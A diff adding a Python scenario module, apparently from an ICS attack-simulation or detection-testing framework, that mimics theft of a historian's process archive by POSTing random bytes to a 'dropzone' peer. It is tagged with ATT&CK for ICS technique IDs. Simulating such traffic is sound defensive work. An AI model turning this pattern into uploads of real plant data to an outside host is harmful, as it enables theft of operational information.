@@ -1,0 +1,29 @@
+"""The historian's archive is uploaded to a server outside."""
+
+from __future__ import annotations
+
+import contextlib
+
+import requests
+
+from ..node import Node
+
+TITLE = "Process archive uploaded from the historian to a server outside"
+TECHNIQUES = ("T0882", "T0811", "T0869")
+ORIGIN = "historian"
+ENTITIES = ("historian", "dropzone")
+
+UPLOADS, SIZE = 4, 900_000
+
+
+def run(node: Node) -> None:
+    """A few megabytes in a few posts."""
+    for number in range(UPLOADS):
+        with contextlib.suppress(requests.RequestException):
+            requests.post(
+                f"http://{node.peer('dropzone')}/u",
+                data=node.rng.randbytes(SIZE),
+                timeout=5,
+                headers={"Content-Type": "application/octet-stream", "X-Part": str(number)},
+            )
+        node.pause(0.8)
